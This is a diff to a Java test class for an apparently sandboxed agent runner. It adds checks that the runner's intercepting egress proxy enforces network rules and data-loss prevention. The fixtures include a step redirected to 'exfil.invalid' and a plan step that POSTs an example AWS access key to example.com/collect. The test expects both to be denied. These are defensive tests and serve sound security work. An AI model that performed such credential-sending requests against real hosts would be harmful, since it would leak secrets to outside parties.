@@ -37,15 +37,18 @@ class RunCommandTest {
                         "report           completed")
                 .as("the user capability shipped with the demo ran in the guest, as its step")
                 .contains("{\"words\":7,\"step\":\"5\"}")
-                .containsPattern("fetch-index +completed +1 +\\d+ +1 allowed ")
+                .as("intercepted: the tunnel and the decrypted GET are two decisions")
+                .containsPattern("fetch-index +completed +1 +\\d+ +2 allowed ")
                 .as("the step's ACL denies the redirect's hop: shown in the table and the decisions")
                 .containsPattern("follow-redirect +completed +1 +\\d+ +1 allowed, 1 denied \\(403\\) ")
                 .contains("step follow-redirect: GET exfil.invalid:80 -> DENY (domain-not-allowed, status 403)")
                 .contains("{\"path\":\"/tmp/agent/steps/1/index.json\",\"bytes\":11}")
                 .contains("{\\\"items\\\":[\\\"alpha\\\"")
                 .contains("causal chain: ").contains(", intact").contains(", signed by key ")
-                .as("the demo fetches over HTTPS: a CONNECT tunnel to example.com:443")
-                .contains("step fetch-index: CONNECT example.com:443 -> ALLOW (allowed, status 200)");
+                .as("the demo fetches over HTTPS: a CONNECT to example.com:443 the proxy intercepts, then the GET inside")
+                .contains("step fetch-index: CONNECT example.com:443 -> ALLOW (allowed, status 200)\n"
+                        + "  step fetch-index: GET example.com:443 -> ALLOW (allowed, status 200)")
+                .contains("demo: the loopback origins served 2 requests: https GET /index.json, http GET /moved");
         assertThat(dir.resolve("run/chain")).isDirectory();
         CliRun verified = run("chain", "verify", "--chain-key", hostKey.toString(), dir.resolve("run/chain").toString());
         assertThat(verified.exit()).as(verified.err()).isZero();
@@ -89,6 +92,49 @@ class RunCommandTest {
         assertThat(panic.err()).as("--quiet, and no stack trace").doesNotContain("run: [").doesNotContain("\tat ");
         CliRun chain = run("chain", "show", dir.resolve("run-panic/chain").toString());
         assertThat(chain.out()).contains("vm.exited").contains("before_hello");
+    }
+
+    @Test
+    void aDemoPlanLeakingAnAwsKeyOverHttpsIsRefusedInsideTlsByStrictDlpAndTheOriginNeverSeesIt() {
+        requireQemu();
+        Path plan = dir.resolve("plan.leak.rtfs");
+        writeQuietly(plan, """
+                (plan ^{:effects [[:network {:domains ["example.com"] :methods [:GET :POST]}]]
+                        :resources {:max_time_ms 30000}}
+                  :program (do (step "fetch" (call :http.get {:url "https://example.com/index.json"}))
+                               (step "leak" (call :http.post {:url "https://example.com/collect"
+                                                              :body "aws_access_key_id=AKIAIOSFODNN7EXAMPLE"}))))
+                """);
+        CliRun r = run("demo", "--work", dir.toString(), "--chain-key", dir.resolve("state/chain-key").toString(),
+                "--plan", plan.toString(), "--format", "json");
+        var report = tools.jackson.databind.json.JsonMapper.builder().build().readTree(r.out());
+        var fetch = report.get("steps").get(0);
+        assertThat(fetch.get("calls").get(0).get("value").get("status").asInt()).as(r.out() + r.err()).isEqualTo(200);
+        assertThat(fetch.get("egress").toString()).as("intercepted: the tunnel, then the decrypted request")
+                .contains("\"method\":\"CONNECT\",\"host\":\"example.com\",\"port\":443,\"decision\":\"ALLOW\"")
+                .contains("\"method\":\"GET\",\"host\":\"example.com\",\"port\":443,\"decision\":\"ALLOW\"");
+        var leak = report.get("steps").get(1);
+        var call = leak.get("calls").get(0);
+        assertThat(call.get("value").get("status").asInt()).as(call.toString()).isEqualTo(403);
+        assertThat(call.get("value").get("denied").asString()).startsWith("dlp");
+        assertThat(leak.get("egress").toString()).contains("\"method\":\"POST\"").contains("\"decision\":\"DENY\"")
+                .contains("\"reason\":\"dlp");
+        // The call completed with the proxy's answer (403): the step and the run succeed, exit 0 as `run`.
+        assertThat(leak.get("status").asString()).isEqualTo("completed");
+        assertThat(report.get("succeeded").asBoolean()).isTrue();
+        assertThat(r.exit()).as(r.err()).isZero();
+        assertThat(r.err()).as("the origin served the fetch, never the leak")
+                .contains("demo: the loopback origins served 1 request: https GET /index.json")
+                .doesNotContain("/collect");
+        // The demo image has no extra trust anchor: the guest trusted the proxy's CA from the run config disk.
+        assertThat(r.err()).contains("(intercepted; the proxy trusts demo-ca.pem)");
+        assertThat(readQuietly(dir.resolve("run/guest.log"))).contains("trusting the run's CA from /dev/vd");
+    }
+
+    private static void requireQemu() {
+        if (Files.isExecutable(Path.of("/usr/bin/qemu-system-x86_64"))) return;
+        if ("true".equals(System.getenv("CI"))) fail("qemu-system-x86 is not installed [CI=true: prerequisites must be present]");
+        Assumptions.abort("qemu-system-x86 is not installed — skipped (set CI=true to make this a failure)");
     }
 
     private static String readQuietly(Path p) {
